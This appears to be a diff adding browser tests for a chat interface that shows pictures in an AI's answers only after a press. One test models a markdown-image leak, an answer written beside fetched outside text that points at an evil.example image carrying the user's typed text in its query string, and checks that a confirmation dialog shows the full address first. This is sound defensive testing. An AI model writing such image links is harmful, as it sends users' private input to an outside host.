@@ -1,0 +1,135 @@
+/** Pictures of an answer: nothing is fetched before a press, and what is shown can be taken away again. */
+import { expect, test } from 'vitest';
+import { userEvent } from 'vitest/browser';
+import type { FetchedPicture } from '../../src/contracts/picture';
+import { show } from './show';
+import { call, result, text, Told } from './told';
+
+/** One red pixel. */
+const pixel = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC';
+const bytes = Uint8Array.from(atob(pixel), (letter) => letter.charCodeAt(0));
+const cat = 'https://c.example/cat.png';
+const showIt = { name: 'Show the picture from c.example' };
+
+// eslint-disable-next-line no-restricted-globals -- It lies in memory: no network is reached.
+const readBlob = async (url: string) => (await fetch(url)).blob();
+
+/** A chat with such an answer, and what of it was fetched. */
+async function answered(
+  answer: string,
+  { fetched, isOutside = false }: { fetched?: FetchedPicture; isOutside?: boolean } = {},
+) {
+  const told = new Told().you('Hi');
+  if (isOutside) {
+    told.hearth([call('c1', 'fetch_page', { url: 'https://news.example/' })]).results({
+      ...result('c1', 'fetch_page', 'News: https://found.example/a.png'),
+      sources: ['news.example'],
+    });
+  }
+  const asked: string[] = [];
+  const { screen } = await show({
+    ...told.hearth([text(answer)], 'answered').chat,
+    fetchPicture: async (url) => {
+      asked.push(url);
+      return fetched ?? { ok: true, bytes, type: 'image/png' };
+    },
+  });
+  return { screen, asked };
+}
+
+test('a picture is fetched at a press alone, named by its host, and goes at another', async () => {
+  const { screen, asked } = await answered(`A cat: ![a red dot](${cat})`);
+  const button = screen.getByRole('button', showIt);
+  await expect.element(button).toBeVisible();
+  await expect.element(screen.getByRole('link', { name: 'a red dot (c.example)' })).toBeVisible();
+  expect(asked).toEqual([]);
+  (button.element() as HTMLElement).focus();
+  await userEvent.keyboard('{Enter}');
+  const picture = screen.getByRole('img', { name: 'a red dot' });
+  await expect.element(picture).toBeVisible();
+  expect(asked).toEqual([cat]);
+  const { src } = picture.element() as HTMLImageElement;
+  expect(src).toMatch(/^blob:/);
+  expect((await readBlob(src)).type).toBe('image/png');
+  const hide = screen.getByRole('button', { name: 'Hide the picture' });
+  await expect.element(hide).toHaveFocus();
+  await userEvent.keyboard('{Enter}');
+  await expect.element(picture).not.toBeInTheDocument();
+  await expect.element(screen.getByRole('button', showIt)).toHaveFocus();
+  // Let go of: its bytes are nowhere any more.
+  await expect(readBlob(src)).rejects.toThrow();
+});
+
+test.for([
+  { problem: 'unreachable' as const, says: /may not let other pages read its pictures/ },
+  { problem: 'refused-address' as const, says: /over https from the public internet alone/ },
+  { problem: 'wrong-type' as const, says: /no PNG, JPEG, GIF or WebP/ },
+  { problem: 'large' as const, says: /larger than 10 MB/ },
+])('where it is $problem a sentence says so, and the link stays', async ({ problem, says }) => {
+  const { screen } = await answered(`![a](${cat})`, { fetched: { ok: false, problem } });
+  await screen.getByRole('button', showIt).click();
+  await expect.element(screen.getByText(says)).toBeVisible();
+  await expect.element(screen.getByRole('link', { name: 'a (c.example)' })).toBeVisible();
+  await expect.element(screen.getByRole('button', showIt)).toBeVisible();
+  await expect.element(screen.getByRole('img')).not.toBeInTheDocument();
+});
+
+test('what only begins like a picture is said to be damaged', async () => {
+  const cut = bytes.slice(0, 40);
+  const { screen } = await answered(`![a](${cat})`, {
+    fetched: { ok: true, bytes: cut, type: 'image/png' },
+  });
+  await screen.getByRole('button', showIt).click();
+  await expect.element(screen.getByText(/cannot draw it/)).toBeVisible();
+});
+
+test('an address that the model put together beside outside text is shown whole before it is asked', async () => {
+  const url = 'https://evil.example/x.png?q=what-you-typed';
+  const { screen, asked } = await answered(`![a](${url}) ![b](https://found.example/a.png)`, {
+    isOutside: true,
+  });
+  await screen.getByRole('button', { name: 'Show the picture from evil.example' }).click();
+  const dialog = screen.getByRole('dialog', { name: 'Fetch a picture from evil.example?' });
+  await expect.element(dialog).toHaveTextContent('q=what-you-typed');
+  expect(asked).toEqual([]);
+  await dialog.getByRole('button', { name: 'Cancel' }).click();
+  await expect.element(dialog).not.toBeInTheDocument();
+  expect(asked).toEqual([]);
+  await screen.getByRole('button', { name: 'Show the picture from evil.example' }).click();
+  await dialog.getByRole('button', { name: 'Fetch it' }).click();
+  await expect.element(screen.getByRole('img', { name: 'a' })).toBeVisible();
+  await screen.getByRole('button', { name: 'Show the picture from found.example' }).click();
+  await expect.element(screen.getByRole('img', { name: 'b' })).toBeVisible();
+  expect(asked).toEqual([url, 'https://found.example/a.png']);
+});
+
+test('a picture that stands in the text itself waits for a press too', async () => {
+  const { screen, asked } = await answered(`Dot: ![a dot](data:image/png;base64,${pixel})`);
+  await expect.element(screen.getByText('Dot: a dot')).toBeVisible();
+  await expect.element(screen.getByRole('img')).not.toBeInTheDocument();
+  await screen.getByRole('button', { name: 'Show the picture', exact: true }).click();
+  await expect.element(screen.getByRole('img', { name: 'a dot' })).toBeVisible();
+  expect(asked).toEqual([`data:image/png;base64,${pixel}`]);
+});
+
+test('a picture in a link has its button beside the link', async () => {
+  const { screen } = await answered(`[![a](${cat})](https://shop.example/)`);
+  const button = screen.getByRole('button', showIt);
+  await expect.element(button).toBeVisible();
+  expect(button.element().closest('a')).toBeNull();
+});
+
+test('when an answer was written, and by what, is said when it is asked for', async () => {
+  const { screen } = await answered('Hello.');
+  await expect.element(screen.getByText('Written', { exact: true })).not.toBeInTheDocument();
+  const button = screen.getByRole('button', { name: 'When this was written' });
+  await expect.element(button).toBeVisible();
+  (button.element() as HTMLElement).focus();
+  await userEvent.keyboard('{Enter}');
+  await expect.element(screen.getByText('Written', { exact: true })).toBeVisible();
+  const time = document.querySelector('time[datetime]');
+  expect(Number.isNaN(Date.parse(time?.getAttribute('datetime') ?? ''))).toBe(false);
+  await userEvent.keyboard('{Escape}');
+  await expect.element(screen.getByText('Written', { exact: true })).not.toBeInTheDocument();
+  await expect.element(button).toHaveFocus();
+});
